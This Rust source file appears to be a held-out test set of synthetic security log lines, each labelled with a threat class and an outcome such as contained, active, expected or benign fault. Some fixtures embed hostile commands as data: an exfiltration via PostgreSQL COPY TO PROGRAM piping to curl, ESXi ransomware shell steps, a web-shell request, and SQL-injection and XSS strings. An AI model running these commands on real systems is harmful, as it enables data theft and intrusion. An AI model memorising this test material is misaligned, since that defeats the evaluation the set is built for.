//! A set by another hand, which had not seen the rules nor what they say of the other sets.

use vedette_event::ThreatClass::{
    BruteForce, CommandAndControl, DefenseEvasion, DenialOfService, Exfiltration, Exploitation,
    LateralMovement, Malware, Persistence, Phishing, PolicyViolation, PrivilegeEscalation,
    Ransomware, Reconnaissance, WebAttack,
};

use super::{Act, Contained, Expected, Faulty, Human, Story};

/// Written without knowing the rules: products of no other set.
pub(crate) const BLIND: &[Story] = &[
    (
        Contained,
        Exploitation,
        &[
            r#"{host} id=firewall sn=18B1690A44C2 time="2026-11-03 02:11:04 UTC" fw=198.51.100.4 pri=1 c=32 m=608 msg="IPS Prevention Alert: WEB-ATTACKS Apache Log4j JNDI Remote Code Execution 4, SID: 2307, Priority: High" n=4 src={ip}:50112:X1 dst={lan}:8080:X0 proto=tcp/8080"#,
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} rspamd[2214]: <8f1c2a>; proxy; rspamd_task_write_log: id: <20261103.4412@{domain}>, qid: <4bX1kq2Zz>, ip: {ip}, from: <invoice@{domain}>, (default: T (reject): [27.41/15.00] [PHISHED_OPENPHISH(7.00){},DMARC_POLICY_REJECT(2.00){},R_SPF_FAIL(1.00){-all}]), len: 18211, time: 311.204ms, dns req: 41, rcpts: <{user}@example.com>",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            r"CEF:0|Malwarebytes|Malwarebytes Endpoint Protection|1.2.0.1009|Detection|MalwareDetected|1|dvchost={host} suser={user} fileType=file cat=Malware act=quarantined filePath=C:\\Users\\{user}\\Downloads\\Rechnung_4412.pdf.exe cs1Label=Detection name cs1=Trojan.Injector.MSIL",
            r"CEF:0|Malwarebytes|Malwarebytes Endpoint Protection|1.2.0.1009|Detection|MalwareDetected|1|dvchost={host} suser={user} fileType=reg_value cat=Malware act=quarantined filePath=HKU\\S-1-5-21\\RUN|Updater cs1Label=Detection name cs1=Trojan.Injector.MSIL",
        ],
    ),
    (
        Contained,
        Ransomware,
        &[
            r#"{"source":"Acronis Cyber Protect","type":"ActiveProtectionSuspiciousActivity","severity":"critical","resource":"{host}","details":{"process":"C:\\Users\\{user}\\AppData\\Local\\Temp\\svhost.exe","affectedFiles":37,"action":"Stop the process and revert using cache"}}"#,
            r#"{"source":"Acronis Cyber Protect","type":"ActiveProtectionRemediatedAffectedFiles","severity":"warning","resource":"{host}","details":{"process":"C:\\Users\\{user}\\AppData\\Local\\Temp\\svhost.exe","remediatedFiles":37,"notRemediatedFiles":0}}"#,
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            r#"<134>1 2026-11-03T02:11:04Z {host} CheckPoint 1984 - [action:"Prevent"; ifdir:"outbound"; product:"Anti-Bot"; src:"{lan}"; dst:"{ip}"; protection_name:"Backdoor.Win32.AsyncRAT.TC.a2f1"; malware_action:"Communication with C&C site"; confidence_level:"High"; severity:"Critical"; src_user_name:"{user}"]"#,
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            r#"2026/11/03 02:11:04 [error] 811#811: *4412 NAXSI_FMT: ip={ip}&server=shop.example.com&uri=/index.php&config=block&rid=9a1f&cscore0=$SQL&score0=16&zone0=ARGS&id0=1000&var_name0=id, client: {ip}, server: shop.example.com, request: "GET /index.php?id=1%27+union+select+1,2,3--+ HTTP/1.1", host: "shop.example.com""#,
            r#"2026/11/03 02:11:06 [error] 811#811: *4415 NAXSI_FMT: ip={ip}&server=shop.example.com&uri=/index.php&config=block&rid=9a22&cscore0=$XSS&score0=8&zone0=ARGS&id0=1302&var_name0=q, client: {ip}, server: shop.example.com, request: "GET /index.php?q=%3Cscript%3Ealert(1) HTTP/1.1", host: "shop.example.com""#,
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} Hostd[2098311]: warning hostd[2098330] [Originator@6876 sub=Default opID=esxui-41c2] Rejected password for user root from {ip}",
            "{host} Hostd[2098311]: warning hostd[2098330] [Originator@6876 sub=Default opID=esxui-41c9] Rejected password for user root from {ip}",
            "{host} Hostd[2098311]: info hostd[2098344] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 1201 : Remote access for ESXi local user account 'root' has been locked for 900 seconds after 5 failed login attempts.",
        ],
    ),
    (
        Contained,
        DefenseEvasion,
        &[
            r#"<EPOEvent><MachineInfo><MachineName>{host}</MachineName><UserName>{user}</UserName></MachineInfo><SoftwareInfo ProductName="Trellix Endpoint Security" ProductVersion="10.7.0"><Event><EventID>1092</EventID><ThreatName>Core Protection - Protect Trellix processes from unauthorized access and termination</ThreatName><SourceProcessName>pskill64.exe</SourceProcessName><ThreatActionTaken>blocked</ThreatActionTaken></Event></SoftwareInfo></EPOEvent>"#,
        ],
    ),
    (
        Contained,
        DenialOfService,
        &[
            "{host}: [DOS][Block][syn_flood][{ip}:51234->{lan}:443][TCP][HLen=20, TLen=60, Flag=S, Seq=3312441]",
            "{host}: [DOS][Block][syn_flood][{ip}:51391->{lan}:443][TCP][HLen=20, TLen=60, Flag=S, Seq=9910273]",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            r#"{"kind":"admin#reports#activity","id":{"applicationName":"login"},"actor":{"email":"{user}@example.com"},"ipAddress":"{ip}","events":[{"type":"login","name":"login_success","parameters":[{"name":"is_suspicious","boolValue":true},{"name":"login_type","value":"google_password"}]}]}"#,
            r#"{"kind":"admin#reports#activity","id":{"applicationName":"admin"},"actor":{"email":"{user}@example.com"},"ipAddress":"{ip}","events":[{"type":"DELEGATED_ADMIN_SETTINGS","name":"ASSIGN_ROLE","parameters":[{"name":"ROLE_NAME","value":"_SEED_ADMIN_ROLE"},{"name":"USER_EMAIL","value":"support-desk7@example.com"}]}]}"#,
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} shell[2101123]: [root]: esxcli vm process kill --type=force --world-id=2101882",
            "{host} shell[2101123]: [root]: chmod +x /tmp/enc",
            "{host} shell[2101123]: [root]: /tmp/enc /vmfs/volumes/datastore1 50 &",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "2026-11-03 02:11:04.31 Logon       Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {ip}]",
            "2026-11-03 02:11:04.90 Logon       Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {ip}]",
            "2026-11-03 02:11:05.44 Logon       Login succeeded for user 'sa'. Connection made using SQL Server authentication. [CLIENT: {ip}]",
            "2026-11-03 02:11:09.02 spid58      Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "2026-11-03 02:11:04 W3SVC2 {host} {lan} POST /uploads/images/thumb1.aspx cmd=whoami 443 - {ip} python-requests/2.31.0 - 200 0 0 812",
            "2026-11-03 02:11:19 W3SVC2 {host} {lan} POST /uploads/images/thumb1.aspx cmd=net+user 443 - {ip} python-requests/2.31.0 - 200 0 0 1140",
        ],
    ),
    (
        Act,
        Exploitation,
        &[
            r#"{ip} - - [03/Nov/2026:02:11:04 +0000] "GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1" 200 8 "-" "curl/8.1""#,
            r#"{ip} - - [03/Nov/2026:02:11:05 +0000] "POST /setup/setupadministrator.action HTTP/1.1" 200 4120 "-" "curl/8.1""#,
            "{host} confluence-audit: category=\"Users and groups\" summary=\"User added to group\" author=\"Anonymous\" affectedObject=\"confluence-administrators\" changed=\"jsvc01\"",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{host} WP_Activity_Log[311]: Event 4000 New user was created: username=wpsupp0rt role=administrator, by=System, client_ip={ip}, severity=Critical",
            "{host} WP_Activity_Log[311]: Event 2046 Modified file functions.php with the theme editor: theme=storefront, by=wpsupp0rt, client_ip={ip}, severity=High",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} CEF:0|Ubiquiti|UniFi Network|9.3.45|200|Threat Detected|8|src={lan} spt=49711 dst={ip} dpt=443 proto=TCP act=detected UNIFIcategory=Security UNIFIsubCategory=Intrusion Prevention UNIFIrisk=high UNIFIipsSignature=ET MALWARE Observed Sliver C2 Certificate msg=A network intrusion attempt from {lan} to {ip} has been detected.",
            "{host} CEF:0|Ubiquiti|UniFi Network|9.3.45|200|Threat Detected|8|src={lan} spt=49788 dst={ip} dpt=443 proto=TCP act=detected UNIFIcategory=Security UNIFIsubCategory=Intrusion Prevention UNIFIrisk=high UNIFIipsSignature=ET MALWARE Observed Sliver C2 Certificate msg=A network intrusion attempt from {lan} to {ip} has been detected.",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{host} postgres[4120]: [3-1] user={user},db=crm,app=psql,client={ip} LOG:  connection authorized: user={user} database=crm",
            "{host} postgres[4120]: [4-1] user={user},db=crm,app=psql,client={ip} LOG:  statement: COPY customers TO PROGRAM 'gzip | curl -sT - http://{domain}/u/crm.gz';",
            "{host} postgres[4120]: [5-1] user={user},db=crm,app=psql,client={ip} LOG:  duration: 48211.310 ms",
        ],
    ),
    (
        Act,
        LateralMovement,
        &[
            r#"{"timestamp":"2026-11-03T02:11:04.112+0000","rule":{"level":6,"id":"92652","description":"Successful Remote Logon Detected - User:\\{user} - NTLM authentication, possible pass-the-hash attack.","mitre":{"id":["T1550.002","T1078.002"]}},"agent":{"id":"014","name":"{host}"},"data":{"win":{"eventdata":{"ipAddress":"{lan}","logonProcessName":"NtLmSsp"}}}}"#,
            r#"{"timestamp":"2026-11-03T02:11:07.540+0000","rule":{"level":12,"id":"92213","description":"Executable file dropped in folder commonly used by malware","mitre":{"id":["T1105"]}},"agent":{"id":"014","name":"{host}"},"data":{"win":{"eventdata":{"targetFilename":"C:\\Windows\\qkTrWmPz.exe","image":"System"}}}}"#,
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "2026-11-03T02:00:01 [INFO] [Thread: Scan Manager] [Site: Head office servers, monthly] Scan [ID 412] started by schedule, engine Local scan engine ({lan}).",
            "2026-11-03T02:04:12 [INFO] [Thread: Scan default:412] [Site: Head office servers, monthly] [192.168.1.20] OPEN SERVICE: 3389/tcp RDP",
            "2026-11-03T02:41:37 [INFO] [Thread: Scan Manager] [Site: Head office servers, monthly] Scan [ID 412] completed, 31 assets.",
        ],
    ),
    (
        Expected,
        Persistence,
        &[
            "{host} dcconfig: ManageEngine Endpoint Central: configuration 'CHG-2214 inventory agent to all servers' created by {user} (Administrator), status Ready to execute",
            r"{host} dcconfig: ManageEngine Endpoint Central: 'CHG-2214 inventory agent to all servers' executed successfully, scheduled task \Inventory\Daily created, run as SYSTEM",
        ],
    ),
    (
        Expected,
        Malware,
        &[
            r"{host} GDATA Security Client: Virus: EICAR-Test-File (not a virus) (Engine A); File: C:\AVTest\eicar.com; User: {user}; Status: Virus detected; Comment: function test after client rollout",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &[
            "{host} nakivo-director: Job \"Nightly off-site copy\" was started by the scheduler",
            "{host} ntopng: [Alert] [Flow] High outbound volume: {lan} -> {ip}:9446, 412 GB sent",
            "{host} nakivo-director: Job \"Nightly off-site copy\" has finished successfully, data transferred 411.8 GB, target transporter {ip}",
        ],
    ),
    (
        Expected,
        Phishing,
        &[
            r#"{"event":"clicked","platform":"KnowBe4","campaign":"Q4 awareness - parcel notice","template":"Parcel could not be delivered","landing_domain":"{domain}","user":"{user}@example.com","ip":"{lan}","header":"X-PHISHTEST"}"#,
        ],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} salt-master[1180]: [INFO    ] User sudo_{user} Published command state.apply with jid 20261103021104112233",
            "{host} salt-minion[912]: [INFO    ] User sudo_{user} Executing command state.apply with jid 20261103021104112233",
            "{host} salt-minion[912]: [INFO    ] Completed state [monthly_patches] at time 02:14:40.102233 (duration_in_ms=181220)",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} bizhub C308: Scan to SMB failed, job 8812, server {lan}, user scan2folder, login error: check user name and password (LOGON_FAILURE, PASSWORD_EXPIRED)",
            "{host} bizhub C308: Scan to SMB failed, job 8813, server {lan}, user scan2folder, login error: check user name and password (LOGON_FAILURE, PASSWORD_EXPIRED)",
            "{host} bizhub C308: Scan to SMB failed, job 8814, server {lan}, user scan2folder, login error: check user name and password (LOGON_FAILURE, PASSWORD_EXPIRED)",
        ],
    ),
    (
        Faulty,
        DenialOfService,
        &[
            "{host} 00331 FFI: port 14-Excessive CRC/alignment errors. See help.",
            "{host} 00076 ports: port 14 is now off-line",
            "{host} 00077 ports: port 14 is now on-line",
            "{host} 00331 FFI: port 14-High collision or drop rate. See help.",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &[
            "{host} U7PG2,fcecda112233,v6.6.77: mcad[2101]: ace_reporter.reporter_fail(): Unable to resolve (http://unifi-old.example.com:8080/inform)",
            "{host} U7PG2,fcecda112233,v6.6.77: mcad[2101]: ace_reporter.reporter_fail(): initial contact failed #412, url=http://unifi-old.example.com:8080/inform, rc=1",
            "{host} U7PG2,fcecda112233,v6.6.77: mcad[2101]: ace_reporter.reporter_fail(): initial contact failed #413, url=http://unifi-old.example.com:8080/inform, rc=1",
        ],
    ),
    (
        Faulty,
        DefenseEvasion,
        &[
            "{host} nxlog[1320]: ERROR SSL error, Failed to connect to {lan}:6514, certificate verify failed: certificate has expired (err: 10)",
            "{host} nxlog[1320]: WARNING [om_ssl|siem_out] no events forwarded for 86400 sec, reconnecting in 200 seconds",
        ],
    ),
    (
        Faulty,
        Ransomware,
        &[
            "{host} smartd[1422]: Device: /dev/ada2, 24 Offline uncorrectable sectors (changed +8)",
            "{host} zed[2290]: eid=118 class=vdev.io_failure pool='tank' vdev=ada2p2 size=131072",
            "{host} middlewared[1201]: TrueNAS alert: Pool tank state is DEGRADED: One or more devices has experienced an unrecoverable error. 214 files cannot be read.",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &[
            "{host} TeamViewer[4410]: Connections_incoming: 1122334455 LAPTOP-7Q2K 03-11-2026 01:58:12 03-11-2026 02:40:03 {user} RemoteControl",
            "{host} TeamViewer[4410]: FileTransfer: Download from C:\\Offers to remote computer, 3 files, session 1122334455",
        ],
    ),
    (
        Human,
        Persistence,
        &[
            r#"{"service":"directory","event_type":"user_login_attempt","initiated_by":{"type":"user","username":"{user}"},"client_ip":"{ip}","geoip":{"country_code":"PT"},"mfa":true,"success":true,"vendor_app":"JumpCloud"}"#,
            r#"{"service":"directory","event_type":"totp_finish_enrollment","initiated_by":{"type":"user","username":"{user}"},"client_ip":"{ip}","geoip":{"country_code":"PT"},"success":true,"vendor_app":"JumpCloud"}"#,
        ],
    ),
    (
        Human,
        Exfiltration,
        &[
            r#"{"event_type":{".tag":"shared_link_create","description":"Created shared link"},"event_category":{".tag":"sharing"},"actor":{".tag":"user","user":{"email":"{user}@example.com"}},"origin":{"geo_location":{"ip_address":"{ip}"}},"assets":[{".tag":"folder","display_name":"Offers 2026"}],"details":{"shared_link_access_level":"viewer","visibility":"public"}}"#,
            r#"{"event_type":{".tag":"shared_link_download","description":"Downloaded file/folder from shared link"},"event_category":{".tag":"sharing"},"actor":{".tag":"anonymous"},"origin":{"geo_location":{"ip_address":"{ip}"}},"assets":[{".tag":"folder","display_name":"Offers 2026"}]}"#,
        ],
    ),
];
